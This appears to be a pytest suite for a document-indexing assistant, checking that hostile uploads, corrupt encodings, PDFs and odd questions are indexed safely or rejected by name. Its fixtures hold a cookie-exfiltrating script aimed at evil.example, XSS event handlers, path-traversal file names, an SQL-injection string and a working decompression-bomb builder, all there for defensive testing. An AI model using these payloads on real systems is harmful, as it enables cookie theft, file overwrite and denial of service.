"""Hostile and odd inputs (fake embedder): documents in a corpus folder, JSONL corpora and
uploads, PDFs, questions, and property-based tests of every offset (sentences, chunks,
citations) over random text.

A document is either indexed correctly (``doc.text[s.start:s.end] == s.text`` for every
sentence and chunk) or rejected with a one-line message naming the file, and the rest of the
corpus is indexed either way.
"""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
import tempfile
import time
import zlib
from pathlib import Path

import pytest
from conftest import CORPUS, CORPUS_FILES, FAKE_MODEL, make_assistant
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from serving import child_env, generated_document
from test_cli import run_cli
from test_corpus_admin import PDF_LINES, encrypted_pdf, minimal_pdf, pdf_with_stream

from assistant.errors import UserInputError
from assistant.index.embedding import HashEmbedder
from assistant.index.store import LoadedIndex
from assistant.ingest.cleaning import label_blocks
from assistant.ingest.corpus_admin import MAX_NAME_BYTES, MAX_NAME_CHARS, safe_file_name
from assistant.ingest.pdf_text import TIME_LIMIT_S, extract_pdf_text
from assistant.ingest.reading import MAX_FILE_BYTES, make_document, mask_html, read_file
from assistant.ingest.splitting import chunk_sentences, split_document
from assistant.models import ChunkingSettings
from assistant.service import Assistant
from assistant.settings import Settings

PROSE = ("Gene therapy delivers working copies of genes into the cells of a patient so that the body can make a "
         "protein that it was missing. Most treatments use a harmless virus as the carrier, because viruses are "
         "very good at getting their cargo into cells.")
HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Vector Safety Notes</title>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<SCRIPT type="text/javascript">alert("upper case script")</SCRIPT>
<style>body{background:url("javascript:alert(1)")}</style></head>
<body onload="alert('body')">
<h1>Vector Safety Notes</h1>
<p onclick="alert('p')">The lentiviral vector was tested in three hundred patients during the long safety study.</p>
<img src=x onerror="alert('img')"><a href="javascript:alert('a')">The link text reads like prose for any reader.</a>
<p>Researchers reported that the vector caused no serious adverse events in any of the treated patients.</p>
<!-- <script>alert('comment')</script> -->
<svg onload="alert('svg')"><text>alert in svg text</text></svg>
<p>The last paragraph is followed by a script that a truncated download never closed.</p>
<script>var secret = "alert('unterminated'): this script never closes and runs to the end of the page."
"""
HOSTILE_NEEDLES = ("alert", "javascript", "onerror", "onclick", "onload", "document.cookie", "secret")
RTL = ("\u200fالعلاج الجيني يستخدم فيروسات غير ضارة "
       "لنقل الجينات إلى الخلايا.\u200f "
       "ריפוי גנטי משתמש בנגיפים כדי להעביר גנים לתאים. "
       "The \u202eRLO override\u202c and \u200eLRM marks surround this English sentence about vectors.\n")
ZERO_WIDTH = ("Gene\u200b therapy uses\u200c harmless\u200d viruses as\u2060 carriers of\u00ad genes into cells. "
              "A byte order mark\ufeff inside the text must not move any offset in this document.\n")


def _random_bytes(seed: int, size: int, low: int = 0) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(low, 256) for _ in range(size))


# name -> (content, None when it must be indexed | a phrase its rejection must contain)
BAD_DOCUMENTS: dict[str, tuple[bytes, str | None]] = {
    "empty.txt": (b"", "empty document"),
    "whitespace.txt": (" \n\t \r\n\u3000\u00a0 \n".encode(), "empty document"),
    "image.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _random_bytes(1, 4000), "looks binary"),
    "random-no-nul.txt": (_random_bytes(2, 4000, low=1), "looks binary"),
    "nul.txt": (f"{PROSE}\x00{PROSE}".encode(), "NUL"),
    "utf16-without-bom.txt": (PROSE.encode("utf-16-le"), "looks binary"),
    "invalid-utf8.txt": (b"Caf\xe9 owners in M\xfcnchen read about gene therapy \x81\x8d\x90. " + PROSE.encode(), None),
    "latin1.txt": (("Ärzte in Zürich berichten über Gentherapie für Kinder. " + PROSE).encode("latin-1"), None),
    "utf16-bom.txt": (("Über Gentherapie.\n\n" + PROSE).encode("utf-16"), None),
    "utf16-be-bom.txt": (b"\xfe\xff" + PROSE.encode("utf-16-be"), None),
    "utf8-bom.txt": (b"\xef\xbb\xbf" + PROSE.encode(), None),
    "encoded-surrogates.txt": (b"Lone \xed\xa0\x80 and \xed\xb2\x80 surrogates. " + PROSE.encode(), None),
    "rtl.txt": (RTL.encode() + PROSE.encode(), None),
    "zero-width.txt": (ZERO_WIDTH.encode(), None),
    "crlf.txt": (("Title Line\r\n\r\n" + PROSE.replace(". ", ".\r\n")).encode(), None),
    "cr-only.txt": (("Title Line\r\r" + PROSE.replace(". ", ".\r")).encode(), None),
    "combining.txt": (("Cafe\u0301 owners and nai\u0308ve readers learn about gene therapy. " + PROSE).encode(), None),
    "few-controls.txt": (("Bell \x07 and escape \x1b[31m characters. " + PROSE).encode(), None),
    "long-line.txt": (("x" * 200_000 + " " + PROSE).encode(), None),
    "many-lines.txt": ("\n".join(f"Line {i} says gene therapy works." for i in range(5000)).encode(), None),
    "hostile.html": (HOSTILE_HTML.encode(), None),
    "markup-only.html": (b"<html><script>var a = 1;</script><style>p {}</style><p> </p></html>", None),
    "huge.txt": (b"", "over the 10 MB limit"),  # 50 MB, written by the fixture
}
BAD_FILE_NAME = os.fsencode("bad-") + b"\xff" + os.fsencode("name.txt")  # not UTF-8: a surrogate in Python


def assert_offsets(index: LoadedIndex, doc_id: str) -> None:
    document = index.documents[doc_id]
    sentences = [s for s in index.sentences if s.doc_id == doc_id]
    for sentence in sentences:
        assert 0 <= sentence.start < sentence.end <= len(document.text)
        assert document.text[sentence.start:sentence.end] == sentence.text, (doc_id, sentence)
    for before, after in zip(sentences, sentences[1:]):
        assert before.end <= after.start
    for chunk in (c for c in index.chunks if c.doc_id == doc_id):
        assert document.text[chunk.start:chunk.end] == chunk.text, (doc_id, chunk.chunk_id)


@pytest.fixture(scope="module")
def bad_corpus(tmp_path_factory: pytest.TempPathFactory):
    """The seed corpus plus every bad document, built once: (assistant, warnings, seconds)."""
    root = tmp_path_factory.mktemp("bad-corpus")
    corpus = root / "corpus"
    corpus.mkdir()
    for name in CORPUS_FILES:
        (corpus / name).write_bytes((CORPUS / name).read_bytes())
    for name, (content, _) in BAD_DOCUMENTS.items():
        (corpus / name).write_bytes(content)
    rng = random.Random(5)
    with (corpus / "huge.txt").open("w", encoding="utf-8") as handle:  # 50 MB of real text
        written, number = 0, 0
        while written < 50 * 1024 * 1024:
            written += handle.write(generated_document(rng, number, 40))
            number += 1
    with open(os.path.join(os.fsencode(corpus), BAD_FILE_NAME), "wb") as handle:
        handle.write(PROSE.encode())
    assistant = make_assistant(corpus, root / "index")
    started = time.perf_counter()
    assistant.build()
    return assistant, list(assistant.warnings), time.perf_counter() - started


def test_the_rest_of_the_corpus_is_indexed_in_reasonable_time(bad_corpus) -> None:
    assistant, warnings, seconds = bad_corpus
    index = assistant.index
    assert set(CORPUS_FILES) <= set(index.documents)
    for doc_id in CORPUS_FILES:
        assert_offsets(index, doc_id)
    assert seconds < 30, f"the build took {seconds:.1f}s"
    for warning in warnings:
        assert "\n" not in warning


@pytest.mark.parametrize("name", BAD_DOCUMENTS)
def test_bad_document_is_indexed_correctly_or_rejected_by_name(bad_corpus, name: str) -> None:
    assistant, warnings, _ = bad_corpus
    index = assistant.index
    rejection = BAD_DOCUMENTS[name][1]
    if rejection is None:
        assert name in index.documents, [w for w in warnings if w.startswith(name)]
        assert_offsets(index, name)
    else:
        assert name not in index.documents
        said = [w for w in warnings if w.startswith(f"{name}: ")]
        assert said and rejection in said[0], warnings


def test_decoded_texts_are_the_intended_characters(bad_corpus) -> None:
    documents = bad_corpus[0].index.documents
    assert "Café owners in München" in documents["invalid-utf8.txt"].text
    assert documents["latin1.txt"].text.startswith("Ärzte in Zürich berichten über")
    assert documents["utf16-bom.txt"].text == "Über Gentherapie.\n\n" + PROSE
    assert documents["utf16-be-bom.txt"].text == PROSE
    assert documents["utf8-bom.txt"].text == PROSE
    assert documents["zero-width.txt"].text == ZERO_WIDTH
    assert documents["rtl.txt"].text.startswith(RTL)


def test_script_and_event_handlers_are_never_indexed(bad_corpus) -> None:
    index = bad_corpus[0].index
    document = index.documents["hostile.html"]
    assert len(document.text) == len(HOSTILE_HTML)  # masked, never shortened
    sentences = [s.text for s in index.sentences if s.doc_id == "hostile.html"]
    assert any("three hundred patients" in s for s in sentences)
    assert any("no serious adverse events" in s for s in sentences)
    for sentence in sentences:
        for needle in HOSTILE_NEEDLES:
            assert needle not in sentence, (needle, sentence)
    assert index.manifest.documents["markup-only.html"].chunks == 0


def test_file_name_that_is_not_utf8_is_skipped_with_its_name(bad_corpus) -> None:
    assistant, warnings, _ = bad_corpus
    said = [w for w in warnings if w.startswith("bad-\\udcffname.txt: ")]
    assert said and "not valid UTF-8" in said[0], warnings
    assert not any(doc_id.startswith("bad-") for doc_id in assistant.index.documents)


@pytest.mark.process
def test_cli_warns_about_each_skipped_file_and_indexes_the_rest(bad_corpus, tmp_path: Path) -> None:
    corpus = bad_corpus[0].settings.corpus
    started = time.perf_counter()
    result = run_cli("index", "--corpus", str(corpus), "--index", str(tmp_path / "idx"), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert time.perf_counter() - started < 60
    assert "Traceback" not in result.stderr
    for name, (_, rejection) in BAD_DOCUMENTS.items():
        if rejection is not None:
            assert any(line.startswith(f"warning: {name}: ") and rejection in line
                       for line in result.stderr.splitlines()), (name, result.stderr[-3000:])
    expected = len(CORPUS_FILES) + sum(r is None for _, r in BAD_DOCUMENTS.values())
    assert result.stdout.startswith(f"indexed {expected} documents")


def test_file_size_limit_is_exact(tmp_path: Path) -> None:
    edge = tmp_path / "edge.txt"
    with edge.open("wb") as handle:
        line = (PROSE + "\n").encode()
        for _ in range(MAX_FILE_BYTES // len(line)):
            handle.write(line)
        handle.write(b"x" * (MAX_FILE_BYTES - handle.tell()))
    assert edge.stat().st_size == MAX_FILE_BYTES
    assert len(read_file(edge, "edge.txt").text) == MAX_FILE_BYTES
    with edge.open("ab") as handle:
        handle.write(b"x")
    with pytest.raises(UserInputError, match=r"^edge\.txt: 10485761 bytes is over the 10 MB limit"):
        read_file(edge, "edge.txt")


def test_jsonl_corpus_with_lone_surrogates_is_indexed(tmp_path: Path) -> None:
    """JSON may carry a lone surrogate escape; before the fix it made the index write crash with
    UnicodeEncodeError and left a temporary folder behind."""
    corpus = tmp_path / "corpus.jsonl"
    rows = [{"doc_id": "half-emoji", "title": "Half \ud83d emoji", "text": f"A broken \ud83d emoji. {PROSE}"},
            {"doc_id": "id-\udc80", "text": f"Low \udc80 surrogate. {PROSE}"},
            {"doc_id": "plain", "text": PROSE},
            {"doc_id": "too-long", "text": "word " * (MAX_FILE_BYTES // 5 + 1)}]
    corpus.write_text("\n".join(json.dumps(row) for row in rows) + "\n", encoding="utf-8")
    assistant = Assistant(Settings(corpus=corpus, index=tmp_path / "index", model=FAKE_MODEL),
                          embedder=HashEmbedder(64))
    assistant.build()
    index = assistant.index
    assert sorted(index.documents) == ["half-emoji", "id-\ufffd", "plain"]
    assert any("too-long" in w and "limit" in w for w in assistant.warnings), assistant.warnings
    assert index.documents["half-emoji"].text.startswith("A broken \ufffd emoji.")
    assert index.manifest.documents["half-emoji"].title == "Half \ufffd emoji"
    for doc_id in index.documents:
        assert_offsets(index, doc_id)
    assert not [p for p in (tmp_path / "index").iterdir() if p.name.startswith(".tmp-")]
    answer = assistant.ask("Why is a harmless virus used as the carrier?", abstain=False)
    assert answer.citations


# --- uploads -----------------------------------------------------------------------------------

def zero_bomb(mebibytes: int) -> bytes:
    """A zlib stream that inflates to ``mebibytes`` MiB of zeros (~1 KB per MiB), made without
    compressing them: after a full flush every MiB of zeros compresses to the same bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * (1 << 20)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    size = mebibytes << 20
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros
    return b"\x78\xda" + first + repeat * (mebibytes - 1) + tail + adler.to_bytes(4, "big")


def bomb_pdf(mebibytes: int) -> bytes:
    """A one-page PDF whose content stream is a FlateDecode bomb."""
    return pdf_with_stream(zero_bomb(mebibytes), "FlateDecode")


def test_zero_bomb_really_inflates() -> None:
    inflater = zlib.decompressobj()
    data, total = zero_bomb(64), 0
    while data:
        total += len(inflater.decompress(data, 1 << 24))
        data = inflater.unconsumed_tail
    assert total == 64 << 20 and inflater.eof


UPLOADS = {  # label -> (name, content or a builder, stored name | None, rejection phrase | None)
    "dot-dot path": ("../../evil.txt", PROSE.encode(), "evil.txt", None),
    "absolute path": ("/etc/cron.d/abs.txt", PROSE.encode(), "abs.txt", None),
    "windows path": ("C:\\Windows\\..\\win.txt", PROSE.encode(), "win.txt", None),
    "encoded dot-dot": ("..%2f..%2fenc.txt", PROSE.encode(), None, None),
    "300 characters": ("n" * 296 + ".txt", PROSE.encode(), "n" * (MAX_NAME_CHARS - 4) + ".txt", None),
    "300 characters of CJK": ("漢" * 296 + ".md", PROSE.encode(), None, None),
    "NUL in the name": ("a\x00b.txt", PROSE.encode(), "a_b.txt", None),
    "only dots": ("../..", PROSE.encode(), None, "unusable file name"),
    "UTF-16 with BOM": ("utf16.txt", PROSE.encode("utf-16"), "utf16.txt", None),
    "Latin-1": ("latin1.txt", ("Ärzte berichten. " + PROSE).encode("latin-1"), "latin1.txt", None),
    "NUL bytes": ("nul.txt", f"{PROSE}\x00".encode(), None, "looks binary"),
    "binary": ("photo.txt", b"\x89PNG\r\n\x1a\n" + _random_bytes(3, 3000), None, "looks binary"),
    "whitespace only": ("blank.txt", b" \n\t\r\n ", None, "empty"),
    "hostile HTML": ("hostile.html", HOSTILE_HTML.encode(), "hostile.html", None),
    "markup only": ("markup.html", b"<script>alert(1)</script><style>p{}</style>", None, "no readable text"),
    "encrypted PDF": ("locked.pdf", encrypted_pdf, None, "encrypted PDF"),
    "truncated PDF": ("cut.pdf", minimal_pdf(PDF_LINES)[:200], None, "cannot read PDF"),
    "PDF bomb": ("bomb.pdf", lambda _: bomb_pdf(1024), None, "too much data when decompressed"),
}


@pytest.mark.parametrize("label", UPLOADS)
def test_upload_is_stored_inside_the_corpus_or_rejected_by_name(fake_assistant: Assistant, tmp_path: Path,
                                                                label: str) -> None:
    name, content, stored, rejection = UPLOADS[label]
    data = content(tmp_path) if callable(content) else content
    corpus, index_dir = fake_assistant.settings.corpus, fake_assistant.settings.index
    outside = sorted(p for p in tmp_path.rglob("*") if corpus not in p.parents and index_dir not in p.parents)
    files_before = sorted(p.name for p in corpus.iterdir())
    docs_before = dict(fake_assistant.index.manifest.documents)
    started = time.perf_counter()
    if rejection is not None:
        with pytest.raises(UserInputError) as info:
            fake_assistant.add_document(name, data)
        message = str(info.value)
        assert rejection in message and "\n" not in message, message
        if rejection != "unusable file name":
            assert message.startswith(safe_file_name(name) + (":" if rejection != "no readable text" else " ")), message
        assert sorted(p.name for p in corpus.iterdir()) == files_before
        assert dict(fake_assistant.index.manifest.documents) == docs_before
    else:
        doc_id = fake_assistant.add_document(name, data)
        if stored is not None:
            assert doc_id == stored
        assert "/" not in doc_id and (corpus / doc_id).is_file()
        assert len(doc_id) <= MAX_NAME_CHARS and len(doc_id.encode()) <= MAX_NAME_BYTES
        index = fake_assistant.index
        assert doc_id in index.documents and set(docs_before) <= set(index.documents)
        assert_offsets(index, doc_id)
        if name == "hostile.html":
            for sentence in (s.text for s in index.sentences if s.doc_id == doc_id):
                assert not any(needle in sentence for needle in HOSTILE_NEEDLES), sentence
    assert time.perf_counter() - started < TIME_LIMIT_S
    # nothing was written outside the corpus and the index
    assert sorted(p for p in tmp_path.rglob("*") if corpus not in p.parents and index_dir not in p.parents) \
        == outside


@pytest.mark.process
def test_pdf_bomb_is_stopped_by_the_memory_limit_even_without_pypdf_limits(tmp_path: Path) -> None:
    """pypdf has its own decompression limit; with it lifted, the child's address-space limit
    must still stop a 4 GiB bomb quickly and cleanly."""
    pypdf = pytest.importorskip("pypdf")
    if not hasattr(pypdf, "overwrite_configuration"):
        pytest.skip("this pypdf cannot lift its decompression limit")
    path = tmp_path / "bomb.pdf"
    path.write_bytes(bomb_pdf(4096))
    assert path.stat().st_size < 10 * 1024 * 1024  # small enough to upload
    lifted = ("import runpy, sys, pypdf; pypdf.overwrite_configuration(zlib_maximum_output_length=1 << 40); "
              f"sys.argv = ['pdf_text', {str(path)!r}]; runpy.run_module('assistant.ingest.pdf_text', run_name='__main__')")
    started = time.perf_counter()
    result = subprocess.run([sys.executable, "-c", lifted], capture_output=True, env=child_env(), timeout=TIME_LIMIT_S)
    assert time.perf_counter() - started < TIME_LIMIT_S
    assert result.returncode == 2, result.stderr[-2000:]
    assert b"too much memory" in result.stderr


def test_pdf_bomb_through_extract_is_rejected_quickly(tmp_path: Path) -> None:
    path = tmp_path / "bomb.pdf"
    path.write_bytes(bomb_pdf(2048))
    started = time.perf_counter()
    with pytest.raises(UserInputError, match=r"^bomb\.pdf: "):
        extract_pdf_text(path)
    assert time.perf_counter() - started < TIME_LIMIT_S


# --- questions ---------------------------------------------------------------------------------

QUESTIONS = {
    "empty": "",
    "spaces": " \t\n ",
    "100,000 characters": "x" * 100_000,
    "100,000 characters of words": "gene therapy " * 8000,
    "2,000 distinct words": " ".join(f"w{i}" for i in range(400))[:2000],
    "only emoji": "🧬💉😀🚀🔥" * 10,
    "only punctuation": "?!.,;:—…()[]{}'\"" * 5,
    "control characters": "\x00\x01\x07\x08\x1b[31m\x7f",
    "control characters around words": "\x1b[31mHow much\x00 does Zolgensma\x07 cost?\x1b[0m",
    "zero-width only": "\u200b\u200c\u200d\u2060\ufeff",
    "zero-width inside words": "How much does Zol\u200bgensma co\u200dst?",
    "right-to-left": "ما هو العلاج الجيني؟",
    "RLO override": "\u202e?tsoc amsnegloZ seod hcum woH",
    "lone surrogate": "\ud800 How much does Zolgensma cost?",
    "combining marks": "a\u0301" * 900,
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)> What is gene therapy?",
    "SQL and format strings": "'; DROP TABLE chunks; -- %s %n {0} ${PATH} What is gene therapy?",
}


@pytest.mark.parametrize("label", QUESTIONS)
def test_question_gets_an_answer_or_a_clear_error_quickly(shared_assistant: Assistant, label: str) -> None:
    question = QUESTIONS[label]
    started = time.perf_counter()
    try:
        answer = shared_assistant.ask(question)
    except UserInputError as exc:
        message = str(exc)
        assert "question" in message and "\n" not in message, message
    else:
        assert answer.text.strip()
        assert answer.abstained == (not answer.citations)
        index = shared_assistant.index
        for citation in answer.citations:
            assert index.documents[citation.doc].text[citation.start:citation.end] == citation.quote
    elapsed = time.perf_counter() - started
    assert elapsed < 5, f"{label}: {elapsed:.2f}s"


# --- properties over random text ---------------------------------------------------------------

WORDS = ("gene therapy vector virus cells patient protein immune trial dose study result the a of in and to was "
         "were is with for Zolgensma Luxturna AAV CRISPR Dr Smith million dollars approved").split()
SEPARATORS = [". ", "! ", "? ", "... ", "… ", ".\n", "\n", "\n\n", "\r\n", "\r", " ", "  ", "\t", "\n- ", "\n* ",
              "\n• ", "\n1. ", "\n2) ", "# ", "\n## Heading\n", "Dr. ", "e.g. ", "U.S. ", "J. A. ", "4.7 ", "[1] ",
              "[2][3] ", "\"", "”", "(", ")", ":", ";", ", ", "\u200b", "\u00a0", "\ufeff", "<p>", "</p>", "<br>"]
pieces = st.one_of(
    st.sampled_from(WORDS).map(lambda w: w + " "),
    st.sampled_from(SEPARATORS),
    st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=8),
    st.lists(st.sampled_from(WORDS), min_size=4, max_size=12).map(lambda ws: " ".join(ws).capitalize() + ". "),
)
random_text = st.lists(pieces, max_size=60).map("".join)


@settings(max_examples=300, deadline=None)
@given(text=random_text, max_words=st.integers(5, 60), overlap=st.integers(0, 2),
       source_format=st.sampled_from(["txt", "md", "html"]))
def test_sentence_and_chunk_spans_index_the_text(text: str, max_words: int, overlap: int, source_format: str) -> None:
    document = make_document("d.txt", text, source_format)
    assert len(document.text) == len(text)
    blocks = label_blocks(document.text)
    sentences = split_document(document, blocks)
    for number, sentence in enumerate(sentences):
        sentence.sentence_id = number
        assert 0 <= sentence.start < sentence.end <= len(document.text)
        assert document.text[sentence.start:sentence.end] == sentence.text
        assert any(b.start <= sentence.start and sentence.end <= b.end for b in blocks)
    for before, after in zip(sentences, sentences[1:]):
        assert before.end <= after.start
    chunks = chunk_sentences(document, sentences, ChunkingSettings(max_words=max_words, overlap_sentences=overlap))
    covered: set[int] = set()
    for chunk in chunks:
        assert document.text[chunk.start:chunk.end] == chunk.text
        ids = chunk.sentence_ids
        assert ids == list(range(ids[0], ids[-1] + 1))
        assert chunk.start == sentences[ids[0]].start and chunk.end == sentences[ids[-1]].end
        covered.update(ids)
    for before, after in zip(chunks, chunks[1:]):
        assert before.start < after.start and before.sentence_ids[0] < after.sentence_ids[0]
        assert len(set(before.sentence_ids) & set(after.sentence_ids)) <= overlap
    assert covered == set(range(len(sentences)))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(["<script>", "</script>", "<p onclick='x'>", "<!--", "-->", "<", ">",
                                           "<style>", "</style", "<br/>", "<svg>", "&amp;", "\n"]),
                          st.text(max_size=6)), max_size=40).map("".join))
def test_html_masking_keeps_every_offset(html: str) -> None:
    masked = mask_html(html)
    assert len(masked) == len(html)
    for original, kept in zip(html, masked):
        assert kept == original or kept in " \n"


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(documents=st.lists(random_text, min_size=1, max_size=3), data=st.data())
def test_citations_quote_their_documents_exactly(documents: list[str], data) -> None:
    with tempfile.TemporaryDirectory() as folder:
        corpus = Path(folder) / "corpus.jsonl"
        corpus.write_text("".join(json.dumps({"doc_id": f"doc{i}", "text": text}) + "\n"
                                  for i, text in enumerate(documents) if text.strip()) + '{"doc_id": "anchor", '
                          f'"text": {json.dumps(PROSE)}}}\n', encoding="utf-8")
        assistant = Assistant(Settings(corpus=corpus, index=Path(folder) / "index", model=FAKE_MODEL),
                              embedder=HashEmbedder(64))
        assistant.build()
        index = assistant.index
        vocabulary = sorted({w for text in documents for w in text.split() if any(c.isalnum() for c in w)}) or WORDS
        question = " ".join(data.draw(st.lists(st.sampled_from(vocabulary), min_size=1, max_size=6)))
        mode = data.draw(st.sampled_from(["hybrid", "dense", "bm25"]))
        answer = assistant.ask(question, mode=mode, max_sentences=3, abstain=False)
        event(f"{min(len(answer.citations), 2)}+ citations")
        for citation in answer.citations:
            text = index.documents[citation.doc].text
            assert text[citation.start:citation.end] == citation.quote
            assert text[citation.passage_start:citation.passage_end] == citation.passage
            assert citation.passage_start <= citation.start < citation.end <= citation.passage_end
            chunk = next(c for c in index.chunks if c.chunk_id == citation.chunk_id)
            assert chunk.doc_id == citation.doc and chunk.text == citation.passage
